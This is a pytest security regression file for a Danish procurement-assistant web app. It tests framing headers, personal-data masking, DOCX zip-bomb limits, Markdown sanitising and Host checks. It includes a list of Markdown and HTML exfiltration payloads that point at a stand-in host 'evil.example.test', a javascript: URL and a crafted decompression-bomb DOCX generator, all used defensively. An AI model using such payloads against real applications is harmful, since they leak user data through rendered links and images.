"""Security round two (issue 24, medium items owned here): each test reproduces an attack from
the review on a real server, real files or a real parser, and fails on the code before the fix."""

from __future__ import annotations

import httpx
import pytest

from tests.web.test_app import RunningApp

# About 200 KB: its /read/ page takes ~0.4 s of CPU to render (measured), so a cache shows.
LARGE_GUIDE = "# Stor vejledning\n\n" + "".join(
    f"## Afsnit {i}\n\n" + f"Ordregiveren må holde markedsdialog efter § {i}, stk. 2, når konkurrencen "
    "ikke fordrejes. " * 3 + "\n\n" for i in range(600))


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    running = RunningApp(tmp_path_factory.mktemp("security2"), name="security2", files={"stor.md": LARGE_GUIDE})
    yield running
    running.stop()


# --- 10. clickjacking ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/staff/", "/read/markedsdialog.md"])
def test_no_page_of_the_app_can_be_framed_by_another_site(app, path):
    response = httpx.get(app.url + path, follow_redirects=True, timeout=30)
    assert response.status_code == 200 and "html" in response.headers["content-type"]
    policy = response.headers.get("content-security-policy", "")
    assert "frame-ancestors 'self'" in policy, path
    assert response.headers.get("x-frame-options") == "SAMEORIGIN", path
    # The /read/ page keeps its own stricter policy beside the framing rule.
    if path.startswith("/read/"):
        assert "default-src" in policy or "script-src" in policy


# --- 11. personal-data masking matrix ----------------------------------------------------------------

MASKED = [
    ("CPR 010190-1234 i sagen", "CPR [cpr] i sagen"),
    ("CPR 010190\u20131234 (Word's en dash)", "CPR [cpr] (Word's en dash)"),
    ("CPR 010190 1234", "CPR [cpr]"),
    ("CPR 010190\u20101234", "CPR [cpr]"),  # Unicode hyphen
    ("CPR 010190\u20111234", "CPR [cpr]"),  # non-breaking hyphen
    ("CPR 010190\u22121234", "CPR [cpr]"),  # minus sign
    ("ring på 2012 3456", "ring på [telefon]"),
    ("ring på 2012-3456", "ring på [telefon]"),
    ("ring på 20.12.34.56", "ring på [telefon]"),
    ("ring på 20\u00a012\u00a034\u00a056", "ring på [telefon]"),
    ("tlf. +45 20.12.34.56", "tlf. [telefon]"),
    ("fnr. 010190-12345", "fnr. [fødselsnummer]"),
    ("fnr. 010190\u201312345", "fnr. [fødselsnummer]"),
]

NOT_MASKED = [
    "kontraktsummen er DKK 1.000.000", "tilbudsfristen er 2026-12-07", "den 07.12.2026",
    "udbudsloven § 12-2 og § 39, stk. 2", "CPV 72000000-5", "CPV 72000000\u20135", "CPV-kode 72000000",
    "perioden 2026-2027", "perioden 2026\u20132027", "tærskelværdien er 5 538 000 euro",
    "DKK 25000000", "kr. 2000 3000", "21 000 000 kr", "afsnit 3.2.1.4", "FOR-2016-08-12-974",
    "2024/S 123-456789", "LBK nr. 1396 af 28. september 2023", "CVR-nr. 20123456",
]


@pytest.mark.parametrize("text, expected", MASKED)
def test_personal_data_in_every_spelling_is_masked(text, expected):
    from assistant.records.privacy import mask_personal_data

    assert mask_personal_data(text) == expected


@pytest.mark.parametrize("text", NOT_MASKED)
def test_procurement_numbers_are_not_masked(text):
    from assistant.records.privacy import mask_personal_data

    assert mask_personal_data(text) == text


def test_note_fields_from_the_caller_are_masked_and_the_mode_is_a_closed_set():
    from assistant.records.casenote import build_note, to_markdown

    data = {"question": "Må vi?", "answer": "Ja [1].", "mode": "Ring 2012 3456 <b>x</b>", "abstained": False,
            "citations": [{"n": 1, "source": "jens@kommune.dk 010190\u20131234.md", "title": "T",
                           "section": "S", "page": 1, "quote": "Q", "as_of": "fnr 010190-12345 / 20.12.34.56"}]}
    text = to_markdown(build_note(data, lambda source: None))
    for personal in ("jens@kommune.dk", "010190\u20131234", "010190-12345", "20.12.34.56", "2012 3456"):
        assert personal not in text, personal
    shown = text.replace("\\[", "[").replace("\\]", "]")  # the note escapes Markdown brackets
    assert "[e-mail]" in shown and "[fødselsnummer]" in shown
    assert "uden sprogmodel" in text  # an unknown mode prints as the default, not as the caller's text


# --- 12. a DOCX whose main part is not called *.xml ---------------------------------------------------


def renamed_main_part_docx(path, paragraphs: int) -> int:
    """A real DOCX whose main part is `word/document.bin`, [Content_Types].xml and the package
    rels pointing to it (python-docx opens it as usual); returns the part's unpacked size."""
    import io
    import zipfile

    import docx

    document = docx.Document()
    document.add_paragraph("Markedsdialog")
    buffer = io.BytesIO()
    document.save(buffer)
    body = "".join(f"<w:p><w:r><w:t>Afsnit {i} om markedsdialog og udbud.</w:t></w:r></w:p>"
                   for i in range(paragraphs))
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info)
            name = info.filename
            if name == "word/document.xml":
                name = "word/document.bin"
                text = data.decode("utf-8")
                data = text.replace("<w:body>", "<w:body>" + body, 1).encode("utf-8")
                size = len(data)
            elif name in ("[Content_Types].xml", "_rels/.rels"):
                data = data.replace(b"/word/document.xml", b"/word/document.bin").replace(
                    b"word/document.xml", b"word/document.bin")
            out.writestr(name, data)
    return size


def test_a_docx_with_its_main_part_renamed_bin_is_refused_quickly(tmp_path, settings):
    import time

    from assistant.corpus.service import sync
    from assistant.ingest.loaders import LoadLimits
    from assistant.store.chroma import Store

    corpus = settings.corpus_dir
    size = renamed_main_part_docx(corpus / "bombe.docx", paragraphs=250_000)
    assert size > 15 * 1024 * 1024 and (corpus / "bombe.docx").stat().st_size < 1024 * 1024
    (corpus / "markedsdialog.md").write_text("# Markedsdialog\n\nOrdregiveren må holde markedsdialog.\n",
                                             encoding="utf-8")
    settings = settings.model_copy(update={"docx_max_xml_mb": 4})
    assert LoadLimits.from_settings(settings).docx_max_xml_mb == 4

    started = time.monotonic()
    report = sync(Store(settings), settings)
    elapsed = time.monotonic() - started
    reasons = {r.source: r.reason for r in report.failed}
    assert "DOCX too complex" in reasons.get("bombe.docx", ""), reasons
    assert "ASSISTANT_DOCX_MAX_XML_MB" in reasons["bombe.docx"]
    assert "markedsdialog.md" not in reasons
    assert elapsed < 10  # the whole sync, embedding the good file included


def test_the_renamed_part_is_measured_before_python_docx_opens_it(tmp_path, monkeypatch):
    import time

    import docx

    from assistant.ingest.loaders import LoadError, LoadLimits, load_file

    path = tmp_path / "bombe.docx"
    renamed_main_part_docx(path, paragraphs=250_000)

    def opened(*args, **kwargs):
        raise AssertionError("python-docx opened the file before its parts were measured")

    monkeypatch.setattr(docx, "Document", opened)
    started = time.monotonic()
    with pytest.raises(LoadError, match="DOCX too complex"):
        load_file(path, tmp_path, limits=LoadLimits(docx_max_xml_mb=4))
    assert time.monotonic() - started < 2


def test_a_zip_bomb_part_is_refused_by_its_ratio(tmp_path):
    import zipfile

    from assistant.ingest.loaders import LoadError, LoadLimits, load_file

    path = tmp_path / "bombe.docx"
    renamed_main_part_docx(path, paragraphs=10)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/padding.bin", b"\0" * (8 * 1024 * 1024))  # ~1000x
    with pytest.raises(LoadError, match="zip bomb"):
        load_file(path, tmp_path, limits=LoadLimits(docx_max_xml_mb=40))


# --- 3 and 4. one inert renderer ------------------------------------------------------------------

EVIL = "http://evil.example.test"
OFFICIAL = "https://www.retsinformation.dk/eli/lta/2022/1396"

PAYLOADS = [
    f"Svar [1].\n\n![x][r]\n\n[r]: {EVIL}/leak.png?q=secret",
    f"![x][r] [1]\n\n[r]: <{EVIL}/leak.png> 'title'",
    f"[klik] [1]\n\n[klik]: {EVIL}/p",  # shortcut reference
    f"[klik][] [1]\n\n[klik]: {EVIL}/p",  # collapsed reference
    f"[a [b] c]({EVIL}/nested) [1]",
    f"![a [b] c]({EVIL}/nested.png) [1]",
    f"[linje\nskift]({EVIL}/break) [1]",
    f"![linje\nskift]({EVIL}/break.png) [1]",
    f"[x]({EVIL}/t 'quoted title') [1]",
    f"[x]({EVIL}/t (paren title)) [1]",
    f'[x]({EVIL}/t "double") [1]',
    f"se {EVIL}/bare og www.evil.example.test og jens@kommune.dk [1]",
    f"<{EVIL}/autolink> <mailto:jens@kommune.dk> [1]",
    f"<img src={EVIL}/a.png> <form action={EVIL}/f><input name=q></form> [1]",
    f"&lt;img src={EVIL}/entity.png&gt; [1]",
    f"> citat med [link]({EVIL}/q) og ![b]({EVIL}/q.png) [1]",
    f"- punkt [link]({EVIL}/l)\n- ![b]({EVIL}/l.png) [1]",
    f"| a | b |\n|---|---|\n| [x]({EVIL}/t) | ![y]({EVIL}/t.png) |",
    f"```\n<img src={EVIL}/code.png>\n```\n[1]",
    "[x](javascript:alert(1)) [y](data:text/html,hi) [z](/files/markedsdialog.md) [1]",
    f"Se [1].\n\n[1]: {EVIL}/planted-marker",
    f"[official lookalike]({OFFICIAL}.evil.example.test/x) [1]",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_reaches_the_chat_inert(payload):
    from assistant.web.markdown import inert_markdown, is_inert

    shown = inert_markdown(payload, [OFFICIAL], {1})
    assert is_inert(shown, [OFFICIAL]), shown
    # Parsed the way the browser's Markdown is: the only link left is the marker's.
    from markdown_it import MarkdownIt

    tokens = [t for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(shown)
              for t in [block, *(block.children or [])]]
    hrefs = [t.attrGet("href") for t in tokens if t.type == "link_open"]
    assert set(hrefs) <= {"#source-1"}, shown
    assert not [t for t in tokens if t.type in {"image", "html_inline", "html_block"}], shown
    assert f"]({EVIL}" not in shown and f"({EVIL}" not in shown, shown


def test_official_links_and_markers_stay_live_and_structure_is_kept():
    from assistant.web.markdown import inert_markdown

    text = (f"**Ja.** Ordregiveren må holde markedsdialog [1], se [loven]({OFFICIAL}).\n\n"
            "- tærsklen er 5.538.000 kr.\n- fristen er 2026-12-07\n\n> § 39, stk. 2 [2]")
    shown = inert_markdown(text, [OFFICIAL], {1, 2})
    assert f"[loven]({OFFICIAL})" in shown
    assert "[\\[1\\]](#source-1)" in shown and "[\\[2\\]](#source-2)" in shown
    assert "**Ja.**" in shown and "\n- tærsklen er 5.538.000 kr." in shown and "\n> § 39, stk. 2" in shown
    # An official URL is live only for the citations that carry it.
    assert f"]({OFFICIAL})" not in inert_markdown(text, [], {1, 2})


def test_every_mode_goes_through_the_one_renderer():
    from assistant.answer.types import Answer, Citation
    from assistant.web.render import render_answer

    hostile = f"<form action={EVIL}/f><input name=q></form> <img src={EVIL}/a.png>"
    for mode, abstained, text in (
            ("extractive", True, f"Kilderne dækker ikke spørgsmålet.\n\nDe nærmeste kilder er:\n- {hostile} – Orlov"),
            ("extractive", False, f"*Titel* [1]\n> citat med [link]({EVIL}/q) ![b][r]\n\n[r]: {EVIL}/r.png"),
            ("llm", False, f"Svar ![x][r] [1].\n\n[r]: {EVIL}/leak.png")):
        answer = Answer(question="q", answer=text, abstained=abstained, mode=mode,
                        citations=[Citation(n=1, source="a.md", title=hostile, page=0, section="", quote="q",
                                            score=1.0)])
        shown = render_answer(answer, "da")
        assert "<form" not in shown and "<img" not in shown, (mode, shown)
        assert f"]({EVIL}" not in shown and f"({EVIL}" not in shown, (mode, shown)


# --- 7. bounded notes and /read/ pages ------------------------------------------------------------


def test_an_800_kb_note_is_capped_and_written_in_under_two_seconds():
    import time

    from assistant.records.casenote import MAX_NOTE_CITATIONS, build_note, to_docx, to_markdown

    paragraph = "Ordregiveren må holde markedsdialog efter § 39, stk. 2. " * 20
    data = {"question": "Må vi?" * 1000, "answer": "\n\n".join([paragraph] * 700), "mode": "extractive",
            "citations": [{"n": i, "source": f"d{i}.md", "title": "T" * 5000, "quote": "q" * 50_000,
                           "section": "S", "page": i} for i in range(200)]}
    assert len(str(data)) > 800_000
    started = time.monotonic()
    note = build_note(data, lambda source: None)
    body = to_docx(note)
    markdown = to_markdown(note)
    assert time.monotonic() - started < 2
    assert len(note.sources) == MAX_NOTE_CITATIONS and body[:2] == b"PK"
    assert len(markdown) < 150_000


def test_read_pages_are_cached_by_content_and_bounded():
    from assistant.web.page_cache import ClientSlots, PageCache, TooManyRenders

    cache = PageCache(max_pages=3, max_bytes=10_000)
    for i in range(5):
        cache.put(("a.md", f"hash{i}", "", "", "da"), f"<p>{i}</p>")
    assert cache.get(("a.md", "hash0", "", "", "da")) is None  # least recently used out first
    assert cache.get(("a.md", "hash4", "", "", "da")) == "<p>4</p>"
    cache.put(("big",), "x" * 6_000)
    cache.put(("big2",), "y" * 6_000)
    assert cache.get(("big",)) is None and cache.get(("big2",)) is not None  # bytes bound

    slots = ClientSlots(per_client=2)
    with slots.slot("10.0.0.1"), slots.slot("10.0.0.1"):
        with pytest.raises(TooManyRenders):
            with slots.slot("10.0.0.1"):
                pass
        with slots.slot("10.0.0.2"):  # another client is served
            pass
    with slots.slot("10.0.0.1"):  # freed again
        pass


def test_read_page_is_served_from_cache_and_follows_a_changed_file(app):
    import time

    large = app.url + "/read/stor.md?q=markedsdialog"
    started = time.monotonic()
    first_large = httpx.get(large, timeout=60)
    first_s = time.monotonic() - started
    started = time.monotonic()
    for _ in range(10):
        again = httpx.get(large, timeout=60)
    per_request = (time.monotonic() - started) / 10
    assert again.status_code == 200 and again.text == first_large.text
    assert per_request < 0.15 and per_request < first_s / 2, (per_request, first_s)

    url = app.url + "/read/markedsdialog.md?q=markedsdialog"
    first = httpx.get(url, timeout=30)
    original = (app.corpus / "markedsdialog.md").read_text(encoding="utf-8")
    try:
        (app.corpus / "markedsdialog.md").write_text(original.replace("markedsdialog", "markedsdialogen", 1),
                                                    encoding="utf-8")
        assert httpx.get(url, timeout=30).text != first.text  # a new version is never an old page
    finally:
        (app.corpus / "markedsdialog.md").write_text(original, encoding="utf-8")


# --- low: Host allow-list, cross-site logout, an emptied corpus folder -----------------------------


def test_an_unknown_host_is_refused_and_known_ones_are_served(app):
    port = app.url.rsplit(":", 1)[1]
    rebound = httpx.get(app.url + "/config", headers={"Host": f"rebind.evil.example.test:{port}"}, timeout=30)
    assert rebound.status_code == 400 and "ASSISTANT_ALLOWED_HOSTS" in rebound.text
    assert "rebind.evil" not in rebound.text
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
        assert httpx.get(app.url + "/", headers={"Host": host}, timeout=30).status_code == 200, host


def test_host_rule():
    from assistant.config import Settings
    from assistant.web.security import host_name

    assert host_name("Example.DK:7860") == "example.dk" and host_name("[::1]:80") == "::1"
    default = Settings(_env_file=None).allowed_host_list
    assert {"localhost", "127.0.0.1", "::1"} <= set(default) and "*" not in default
    public = Settings(_env_file=None, host="0.0.0.0", allowed_origins="https://udbud.kommune.dk")
    assert "udbud.kommune.dk" in public.allowed_host_list and "0.0.0.0" not in public.allowed_host_list


@pytest.mark.parametrize("path", ["/logout", "/staff/logout"])
def test_logout_by_a_cross_site_get_is_refused(app, path):
    for site in ("cross-site", "same-site"):
        response = httpx.get(app.url + path, headers={"Sec-Fetch-Site": site}, timeout=30)
        assert response.status_code == 403, (path, site)
    own = httpx.get(app.url + path, headers={"Sec-Fetch-Site": "same-origin"}, timeout=30)
    assert own.status_code != 403


def test_a_sync_of_an_emptied_corpus_folder_removes_nothing_without_confirmation(settings):
    from assistant.corpus.service import sync
    from assistant.store.chroma import Store

    for i in range(4):
        (settings.corpus_dir / f"note{i}.md").write_text(f"# Note {i}\n\nOrdregiveren må holde dialog {i}.\n",
                                                         encoding="utf-8")
    store = Store(settings)
    sync(store, settings)
    (settings.corpus_dir / "note0.md").unlink()  # an ordinary delete goes through
    assert [r.status for r in sync(store, settings).results if r.source == "note0.md"] == ["removed"]

    for i in range(1, 4):  # the share is unmounted: the folder is empty
        (settings.corpus_dir / f"note{i}.md").unlink()
    report = sync(store, settings)
    assert {r.status for r in report.results} == {"failed"}
    assert all("--confirm-remove" in r.reason for r in report.results)
    assert len(store.documents()) == 3
    confirmed = sync(store, settings, confirm_remove=True)
    assert [r.status for r in confirmed.results] == ["removed"] * 3 and store.documents() == {}
